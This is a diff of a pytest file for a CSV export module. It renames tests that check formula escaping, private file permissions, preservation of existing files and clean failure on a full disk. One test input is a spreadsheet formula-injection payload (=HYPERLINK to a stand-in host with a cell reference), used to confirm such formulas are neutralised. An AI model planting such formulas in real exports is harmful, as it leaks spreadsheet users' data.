@@ -1,4 +1,4 @@
-"""Tables leave the program as files that neither a spreadsheet nor a full disk can spoil."""
+"""Tables are exported to private files that are safe in a spreadsheet."""
 
 from __future__ import annotations
 
@@ -22,16 +22,16 @@ if TYPE_CHECKING:
 
 @pytest.fixture
 def folder(tmp_path: Path) -> Path:
-    made = tmp_path / "exports"
-    made.mkdir()
-    return made
+    exports = tmp_path / "exports"
+    exports.mkdir()
+    return exports
 
 
 def read(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text)))
 
 
-def test_a_table_comes_back() -> None:
+def test_a_table_can_be_read_back() -> None:
     when = datetime(2025, 6, 1, 12, 30, tzinfo=UTC)
     rows = [(1, 'a "b", c', None, True, -2.5, when), (2, "日本", "", False, 0, None)]
     text = to_csv(["ID", "Name", "A", "B", "C", "When"], rows)
@@ -59,14 +59,14 @@ def test_a_table_comes_back() -> None:
         '=HYPERLINK("http://x"&A1)',
     ],
 )
-def test_formulas_are_text(text: str) -> None:
+def test_formulas_become_text(text: str) -> None:
     ((heading,), (cell,)) = read(to_csv([text], [(text,)]))
     assert heading.startswith("'")
     assert cell.startswith("'")
 
 
 @pytest.mark.parametrize("text", ["-", "-12.5", "+3", "12 %", "a=b", "x@y.z", "2025-06-01"])
-def test_ordinary_cells_stay(text: str) -> None:
+def test_ordinary_cells_are_unchanged(text: str) -> None:
     assert read(to_csv(["a"], [(text,)]))[1] == [text]
 
 
@@ -76,7 +76,7 @@ def test_hostile_text_becomes_one_plain_line() -> None:
     assert all(line.isprintable() for line in text.splitlines())
 
 
-def test_the_file_is_private_and_alone(folder: Path) -> None:
+def test_the_file_is_private(folder: Path) -> None:
     path = write_private(folder / "deployments.csv", "ü\n")
     assert path.read_bytes() == "ü\n".encode()
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
@@ -84,7 +84,7 @@ def test_the_file_is_private_and_alone(folder: Path) -> None:
 
 
 @pytest.mark.parametrize("kind", ["file", "folder", "broken link"])
-def test_what_is_there_stays(folder: Path, kind: str) -> None:
+def test_an_existing_file_is_kept(folder: Path, kind: str) -> None:
     path = folder / "x.csv"
     if kind == "file":
         path.write_text("mine")
@@ -99,7 +99,7 @@ def test_what_is_there_stays(folder: Path, kind: str) -> None:
 
 
 @pytest.mark.parametrize("links", [True, False])
-def test_a_file_that_appears_meanwhile_stays(folder: Path, monkeypatch, links: bool) -> None:
+def test_a_file_created_meanwhile_is_kept(folder: Path, monkeypatch, links: bool) -> None:
     path = folder / "x.csv"
     link = os.link
 
@@ -127,12 +127,12 @@ def test_a_file_system_without_hard_links(folder: Path, monkeypatch) -> None:
     assert list(folder.iterdir()) == [path]
 
 
-def test_a_missing_folder_is_shown(folder: Path) -> None:
+def test_a_missing_folder_is_reported(folder: Path) -> None:
     with pytest.raises(ExportError, match=r"no such file or directory\). Choose another folder\."):
         write_private(folder / "none" / "x.csv", "text")
 
 
-def test_a_full_disk_leaves_nothing_behind(folder: Path) -> None:
+def test_a_full_disk_leaves_no_file(folder: Path) -> None:
     script = """if True:
         import resource, sys
         from pathlib import Path
@@ -143,17 +143,17 @@ def test_a_full_disk_leaves_nothing_behind(folder: Path) -> None:
         except ExportError as error:
             print(error)
     """
-    done = subprocess.run(
+    process = subprocess.run(
         [sys.executable, "-c", script, str(folder / "x.csv")],
         capture_output=True,
         text=True,
         check=True,
     )
-    assert "could not be written" in done.stdout
+    assert "could not be written" in process.stdout
     assert list(folder.iterdir()) == []
 
 
-def test_what_a_link_leads_to_is_replaced(tmp_path):
+def test_the_target_of_a_link_is_replaced(tmp_path):
     (tmp_path / "there").mkdir()
     real = tmp_path / "there" / "report.md"
     real.write_text("old")
